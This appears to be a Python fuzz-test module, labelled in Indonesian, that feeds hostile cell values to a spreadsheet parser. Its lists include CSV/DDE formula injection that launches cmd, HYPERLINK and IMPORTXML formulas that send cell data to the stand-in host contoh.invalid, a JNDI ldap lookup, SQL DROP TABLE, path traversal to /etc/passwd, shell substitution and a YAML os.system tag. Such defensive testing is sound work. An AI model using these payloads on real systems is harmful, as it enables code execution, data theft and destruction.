"""Cells: each value stands in every column of a case."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.case import EITHER, READ, REFUSED, Case, everywhere, header_row, headers, of_rows, row, text

_LONG = 32_767

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://contoh.invalid/?\"&A2;\"klik\")", "=IMPORTXML(\"http://contoh.invalid\";\"//a\")",
    "=IMPORTRANGE(\"x\";\"A1\")", "=IMAGE(\"http://contoh.invalid/\"&A2)", "=WEBSERVICE(\"http://contoh.invalid\")",
    "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "|calc", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", " =1+1",
    "'=1+1", "{=1+1}", ";=1+1", ",=1+1", "\"=1+1", "%0A=1+1", "=1+1\";=1+1", "-", "+62 812-3456-7890", "@",
]  # fmt: skip
_CODES = [0x0, 0x1, 0x7, 0x8, 0xB, 0xC, 0xD, 0x1B, 0x7F, 0x85, 0x9B, 0x2028, 0x2029, 0xD800, 0xDFFF, 0xFFFE, 0xFFFF]
_LETTERS = {
    "arah kanan ke kiri": "\u202eiradnas\u202c", "isolasi arah": "\u2066abc\u2069", "lebar nol": "a\u200bb\u200cc\u200dd",
    "BOM": "\ufeffGNS-2025-0001", "Zalgo": "a" + "\u0301" * 5_000, "Kiril": "GNS-2025-ОООl", "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
    "huruf tag": "\U000e0041\U000e0042", "huruf pribadi": "\ue000\U0010fffd", "angka Arab": "٣٦٠٤٣٣٥٠٠٥٩٠٩٩٠١",
    "angka lebar penuh": "３６０４３３５００５９０９９０１", "angka Devanagari": "२०२५", "ligatur": "ﬁ" * 1_000, "ﷺ": "ﷺ" * 5_000,
    "İ": "İ" * 1_000, "ß": "ß" * 1_000, "spasi tak putus": "\xa0" * 100, "spasi ideografi": "\u3000Laki-laki\u3000",
    "baris baru": "a\n" * 10_000, "hanya spasi": " " * 1_000, "lolos ganda": "_x005F_x0041_", "pasangan": "_xD83D__xDE00_",
}  # fmt: skip
_INJECTIONS = {
    "HTML": "<script>alert(1)</script>", "HTML setengah": "<img src=x onerror=alert(1)", "entitas": "&lt;&#0;&amp;",
    "templat": "{{ 7*7 }}{% for a in range(9) %}x{% endfor %}", "format": "{0.__class__}%s%n%(x)s", "log": "${jndi:ldap://contoh.invalid}",
    "SQL": "'; DROP TABLE temuan; --", "jalur": "../../../../etc/passwd", "perintah": "$(id)`id`;id|id&",
    "pilihan": "--format=json", "kepala surel": "a@contoh.id\r\nBcc: b@contoh.invalid", "YAML": "&a [*a, *a]: !!python/object:os.system",
    "terminal": "\x9b31m", "tautan": "javascript:alert(1)", "CSV": "a\",\"b\n\"c", "baris log": "OK\nkawal: semua beres",
}  # fmt: skip
_STRAINING = {
    "32.767 huruf": "x" * _LONG, "32.768 huruf": "x" * (_LONG + 1), "200.000 huruf": "y" * 200_000,
    "32.767 angka": "9" * _LONG, "angka nol": "0" * _LONG, "spasi lalu huruf": " " * _LONG + "x", "garis miring": "1/" * 16_000,
    "titik koma": ";" * _LONG, "nama berulang; ": "Fisik; " * 4_600, "tanda hubung": "-" * _LONG, "titik": "1." * 16_000,
    "huruf lalu tanda": "a" * _LONG + "!", "@": "a@" * 16_000, "kurung": "(" * _LONG, "tanda petik": "'" * _LONG, "emoji": "😀" * 16_000,
    "koma": "," * _LONG, "a1": "a1" * 16_000, "spasi di antara": "a " * 16_000, "baris baru": "\n" * _LONG,
}  # fmt: skip
_DATES = ["31/02/2025", "99/99/9999", "0000-00-00", "29/02/1900", "01/01/0001", "9999-12-31", "10000-01-01", "1/1/1", "12:30",
          "2025-04-05T24:00:00", "05/04/25", "5 Apr 2025", "hari ini", "45000.5", "2025-04-05T00:00:00+99:00"]  # fmt: skip
_NUMBERS = ["1E308", "-1E308", "1E309", "1E-320", "NaN", "nan", "INF", "-INF", "Infinity", "-0", "0.1", "9007199254740993",
            "3.60433500590991E+15", "3604335005909901", "99999999999999999999999", "2958465", "2958466", "60", "-1", "1E10",
            "0x10", "1_000", "1,5", "1e", "", " ", "--1", "1" * 5_000, "1E" + "9" * 400, "٣", "45000.999999999"]  # fmt: skip
_ERRORS = [
    "#REF!",
    "#N/A",
    "#DIV/0!",
    "#NULL!",
    "#NUM!",
    "#NAME?",
    "#VALUE!",
    "#SPILL!",
    "#CALC!",
    "#GETTING_DATA",
    "#",
]


def cells() -> Iterator[Case]:
    """Yield them."""
    for value in FORMULAS:
        yield Case("sel: teks seperti rumus", repr(value), everywhere(text(value)), READ)
    for code in _CODES:
        yield Case("sel: tanda kendali", f"U+{code:04X}", everywhere(text(f"GNS_x{code:04X}_-2025")), READ)
    for kind, texts in (("huruf", _LETTERS), ("suntikan", _INJECTIONS), ("panjang", _STRAINING)):
        for name, value in texts.items():
            yield Case(f"sel: {kind}", name, everywhere(text(value)), READ)
    for value in _DATES:
        yield Case("sel: tanggal", value, everywhere(text(value)), READ)
    for value in _NUMBERS:
        yield Case("sel: angka", repr(value[:30]), everywhere(f"<c><v>{value}</v></c>"), READ)
    for value in _ERRORS:
        yield Case("sel: nilai kesalahan", value, everywhere(f'<c t="e"><v>{value}</v></c>'), READ)
    yield from _typed()
    yield from _headers()


def _typed() -> Iterator[Case]:
    for name, cell in {
        "rumus dengan tautan": '<c t="str"><f>HYPERLINK("http://contoh.invalid")</f><v>klik</v></c>',
        "rumus ke buku lain": '<c><f>[1]Sheet1!A1</f><v>1</v></c>',
        "rumus tanpa nilai": "<c><f>1+1</f></c>",
        "rumus 100.000 huruf": f"<c><f>{'1+' * 50_000}1</f><v>1</v></c>",
        "rumus larik": '<c><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c>',
        "rumus bersama": '<c><f t="shared" si="99999"/><v>1</v></c>',
        "rumus berupa kesalahan": '<c t="e"><f>1/0</f><v>#DIV/0!</v></c>',
        "benar": '<c t="b"><v>1</v></c>',
        "benar yang bukan": '<c t="b"><v>=1+1</v></c>',
        "tanggal ISO": '<c t="d"><v>9999-12-31T23:59:59</v></c>',
        "tanggal ISO yang bukan": '<c t="d"><v>0000-00-00</v></c>',
        "jam ISO": '<c t="d"><v>T25:61:61</v></c>',
        "jenis yang tidak ada": '<c t="=1+1"><v>=1+1</v></c>',
        "gaya yang tidak ada": '<c s="999999999"><v>1</v></c>',
        "teks kaya": '<c t="inlineStr"><is><r><t>=1</t></r><r><t>+1</t></r><rPh><t>x</t></rPh></is></c>',
        "teks kaya 10.000 potong": f'<c t="inlineStr"><is>{"<r><t>a</t></r>" * 10_000}</is></c>',
        "dua nilai": "<c><v>1</v><v>2</v></c>",
        "nilai dan teks": "<c><v>1</v><is><t>=1</t></is></c>",
    }.items():  # fmt: skip
        yield Case("sel: jenis", name, everywhere(cell), READ)
    yield Case("sel: jenis", "teks bersama pecahan", everywhere('<c t="s"><v>0.5</v></c>'), REFUSED, "rusak")


def _headers() -> Iterator[Case]:
    usual = headers()
    first = row([text("GNS-2025-0001")])
    for name, made in {
        "rumus": ["=1+1", *usual[1:]], "kosong": ["", *usual[1:]], "semua sama": [usual[0]] * len(usual),
        "Nomor Kasus 5.000 kali": [usual[0]] * 5_000, "huruf Kiril": ["Nomоr Kasus", *usual[1:]], "terbalik": usual[::-1],
        "baris baru": [title.replace(" ", "\n") for title in usual], "32.767 huruf": ["x" * _LONG, *usual],
        "tanda kendali": [f"{title}_x0000_" for title in usual], "arah": [f"\u202e{title}" for title in usual],
        "lebar nol": ["\u200b".join(title) for title in usual], "HTML": ["<b>Nomor Kasus</b>", *usual[1:]],
        "hanya satu": usual[:1], "terminal": ["\x9b2J" + usual[0], *usual], "10.000 asing": [f"Kolom {n}" for n in range(10_000)],
        "spasi": [f" {title} " for title in usual], "huruf besar": [title.upper() for title in usual],
    }.items():  # fmt: skip
        yield Case("judul kolom", name, of_rows(first, header=row(map(text, made))), EITHER)
    for name, cell in {"angka": "<c><v>1</v></c>", "kesalahan": '<c t="e"><v>#REF!</v></c>'}.items():
        yield Case("judul kolom", name, of_rows(first, header=row([cell] * len(usual))), EITHER)
    yield Case("judul kolom", "di baris kedua", of_rows(header_row(), first, header="<row/>"), EITHER)
